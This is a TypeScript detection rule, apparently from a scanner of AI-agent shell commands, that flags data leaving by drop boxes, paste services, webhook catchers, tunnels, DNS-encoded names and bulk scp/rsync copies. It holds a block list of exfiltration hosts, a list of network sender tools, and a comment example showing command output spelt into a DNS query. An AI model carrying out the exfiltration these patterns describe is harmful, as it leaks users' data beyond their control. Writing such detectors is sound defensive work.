/** Data leaves by a way that is made for taking in what others drop, or in the names and streams that nobody reads. */
import { tags } from '../../rule.ts';
import type { Observation, ObservedCommand } from '../../../pipeline/types.ts';
import { isAct } from '../acts.ts';
import { computedMark } from '../commandLine.ts';
import { isFedBy, names } from '../rule.ts';
import type { CommandRule } from '../rule.ts';

/** Reports uploads to drop boxes and paste services, of many files at once, and in names that are looked up. */
export const dataDrop: CommandRule = {
  id: 'commands/data-drop',
  title: 'Data is sent where anybody can take it up',
  why: 'Drop boxes, paste services and looked-up names take data from whoever comes; what is sent cannot be called back.',
  remedy:
    'Keep the result in the workspace, for example `tar czf out/report.tgz reports`, and let the user send it.',
  severity: 'high',
  confidence: 'medium',
  risks: ['EXFIL-FETCH'],
  tags: tags('OWASP-ASI@2026:ASI02', 'MITRE-ATLAS@5.6.0:AML.T0086', 'CWE@4.18:CWE-200'),
  matches: observation =>
    dropsTo(observation) || observation.commands.some(command => sends(command, observation)),
};

const dropHosts =
  /^(?:[\w-]+:\/\/)?(?:[^/@]*@)?(?:[\w.-]+\.)?(?:webhook\.site|requestbin\.(?:com|net)|pipedream\.net|requestcatcher\.com|hookbin\.com|beeceptor\.com|interact\.sh|oast\.(?:pro|live|site|online|fun|me)|oastify\.com|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io|transfer\.sh|file\.io|0x0\.st|termbin\.com|ix\.io|sprunge\.us|paste\.rs|paste\.ee|dpaste\.(?:com|org)|hastebin\.com|bashupload\.com|temp\.sh|catbox\.moe|litterbox\.catbox\.moe|gofile\.io|anonfiles\.com|pixeldrain\.com|tmpfiles\.org|uguu\.se|oshi\.at|keep\.sh|filebin\.net|ngrok\.io|ngrok-free\.app|ngrok\.app|serveo\.net|loca\.lt|trycloudflare\.com)(?::\d+)?(?:[/?#]|$)/iu;
const messengers =
  /^https?:\/\/(?:(?:canary\.|ptb\.)?discord(?:app)?\.com\/api\/webhooks\/|api\.telegram\.org\/bot|hooks\.slack\.com\/services\/.*)/iu;
const pasteApis = /^https?:\/\/(?:pastebin\.com\/api|api\.github\.com\/gists|gist\.github\.com)/iu;

const senders = names(
  'curl wget wget2 http https xh invoke-webrequest invoke-restmethod aria2c nc ncat netcat socat',
);

function dropsTo({ urls, commands }: Observation): boolean {
  const sender = commands.some(
    ({ program }) =>
      senders.has(program) || /^\.(?:upload|post)\w*$/u.test(program) || program.endsWith(' code'),
  );
  if (!sender) return false;
  if (urls.some(url => dropHosts.test(url.replace(/^tcp:\/\//u, '')))) return true;
  const posts = commands.some(
    command => senders.has(command.program) && command.args.some(arg => bodyOption.test(arg)),
  );
  return posts && urls.some(url => pasteApis.test(url) || (messengers.test(url) && sendsFile(commands)));
}

const bodyOption =
  /^(?:-d|-F|-T|--data(?:-\w+)?(?:=.*)?|--form(?:-string)?|--upload-file|--json|--post-(?:file|data)(?:=.*)?|--body-(?:file|data)(?:=.*)?|-infile|-body|-form|POST|PUT)$/iu;

const sendsFile = (commands: readonly ObservedCommand[]): boolean =>
  commands.some(({ args }) =>
    args.some(arg => /^@|=@|^--post-file|^-infile$|=</iu.test(arg) || arg.includes(computedMark)),
  );

const sendsWhole = isAct({
  'scp rsync': ['~~ ~:'],
  gh: ['gist create -p|--public'],
  'new-object': ['~net.sockets.tcpclient|net.sockets.udpclient'],
  'rclone s3cmd': ['copy|sync|put ~/home|/etc|~'],
});

const dumpers = names(
  'tar zip 7z mysqldump pg_dump pg_dumpall mongodump sqlite3 history env printenv dmesg find set',
);

function sends(command: ObservedCommand, { commands }: Observation): boolean {
  const { program, args } = command;
  if (/^(?:dig|nslookup|host|ping|drill|getent)$/u.test(program)) return asksComputedName(args, commands);
  if (/^(?:nc|ncat|netcat|curl|wget)$/u.test(program) && isFedBy(command, dumpers))
    return program !== 'curl' || args.some(arg => /^(?:-T|--upload-file|@-|-d@-|-F)$|=@-/u.test(arg));
  if (/^(?:scp|rsync)$/u.test(program)) return sendsHome(args);
  if (!senders.has(program)) return sendsWhole(command);
  const each = command.via.some(step => /^(?:find -exec|xargs|parallel)$/u.test(step));
  if (each && args.some(arg => /^@|=@/u.test(arg))) return true;
  return sendsMany(args) || asksWithOutput(args, commands);
}

/** `dig $(whoami).example.com`: what a command prints is spelt into the name that is asked for. */
const asksComputedName = (args: readonly string[], commands: readonly ObservedCommand[]): boolean =>
  args.some(arg => /\uFFFC[^/]*\.\w/u.test(arg) || /^[\w-]{40,63}\.[\w.-]+$/u.test(arg)) &&
  commands.some(({ via }) => via.includes('substitution'));

/** A whole home or system folder to another machine. */
function sendsHome(args: readonly string[]): boolean {
  const operands = args.filter(arg => !arg.startsWith('-'));
  const target = operands.at(-1) ?? '';
  return (
    /^(?:[\w.@-]{2,}:|rsync:\/\/)/u.test(target) &&
    operands
      .slice(0, -1)
      .some(source => /^(?:~|\/|\/(?:etc|home|root|users)(?:\/[^/]+)?)\/?\*?$/iu.test(source))
  );
}

/** A body that is a pattern, the item of a loop, or of a list of names. */
const sendsMany = (args: readonly string[]): boolean =>
  args.some((arg, at) => {
    const value = /^(?:-T|--upload-file|-infile)$/iu.test(args[at - 1] ?? '')
      ? arg
      : /(?:^|=)@(?<file>.+)$/u.exec(arg)?.groups?.['file'];
    const posted = /^--(?:post|body)-(?:file|data)=(?<file>.+)$/u.exec(arg)?.groups?.['file'];
    return [value, posted].some(file => file !== undefined && /^(?:[^?]*\*[^?]*|\{\})$/u.test(file));
  });

const telling = names(
  'env printenv history whoami id hostname uname ifconfig ip base64 xxd tar set export ps netstat',
);

/** What programs tell of the user or the machine is written into an address or a body. */
const asksWithOutput = (args: readonly string[], commands: readonly ObservedCommand[]): boolean =>
  args.some(arg => arg.includes(computedMark) && !/^(?:-H|--header)/u.test(arg)) &&
  commands.some(
    ({ program, via, args: own }) =>
      via.includes('substitution') &&
      telling.has(program) &&
      !own.some(arg => /^(?:-d|--decode|-D|-u|-[A-Z]?s|-m|-r)$/u.test(arg)),
  );
